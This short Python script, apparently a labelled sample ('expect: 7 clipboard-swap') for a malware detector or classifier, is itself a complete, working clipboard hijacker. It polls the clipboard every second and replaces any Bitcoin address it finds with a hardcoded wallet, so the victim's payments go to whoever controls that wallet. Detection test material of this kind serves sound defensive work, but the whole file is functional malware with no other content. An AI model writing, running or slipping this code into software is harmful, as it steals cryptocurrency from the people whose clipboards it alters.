# expect: 7 clipboard-swap
import pyperclip, re, time
MINE = 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'
while True:
    t = pyperclip.paste()
    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):
        pyperclip.copy(MINE)
    time.sleep(1)
